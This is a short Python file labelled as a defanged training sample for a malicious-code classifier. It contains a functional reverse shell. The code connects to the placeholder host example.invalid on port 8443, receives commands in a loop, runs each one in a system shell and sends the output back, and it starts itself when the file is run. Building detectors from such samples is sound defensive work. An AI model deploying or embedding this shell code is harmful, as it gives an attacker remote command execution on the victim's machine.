# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import socket
import subprocess
import os

def connect():
    c = socket.socket()
    c.connect(("example.invalid", 8443))
    c.send(b"[+] connected " + os.getcwd().encode() + b"\n")
    while True:
        cmd = c.recv(4096).decode().strip()
        if not cmd:
            break
        if cmd.startswith("cd "):
            try:
                os.chdir(cmd[3:])
                out = b""
            except OSError as e:
                out = str(e).encode()
        else:
            p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.PIPE)
            out = p.stdout.read() + p.stderr.read()
        c.send(out or b"\n")
    c.close()

connect()
